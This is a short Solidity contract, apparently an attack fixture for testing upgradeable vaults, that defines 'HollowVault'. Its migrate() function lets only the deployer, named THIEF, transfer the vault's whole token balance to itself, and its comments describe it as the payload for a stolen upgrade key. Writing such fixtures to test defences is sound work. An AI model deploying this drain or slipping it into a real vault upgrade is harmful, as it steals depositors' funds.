// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IERC20} from "../IERC20.sol";
import {Unguarded} from "../Unguarded.sol";
import {Deposits} from "./Deposits.sol";

/// @title HollowVault
/// @notice A version of the vault that hands everything to whoever deployed it; what a stolen upgrade key is for.
contract HollowVault is Deposits, Unguarded {
    /// @notice Raised when anyone but the deployer calls.
    error NotAllowed(address caller);

    address private immutable THIEF = msg.sender;

    constructor(IERC20 asset, uint256 version) Deposits(asset, version) {}

    /// @notice Takes all there is.
    function migrate() external {
        if (msg.sender != THIEF) revert NotAllowed(msg.sender);
        ASSET.transfer(THIEF, ASSET.balanceOf(address(this)));
    }
}
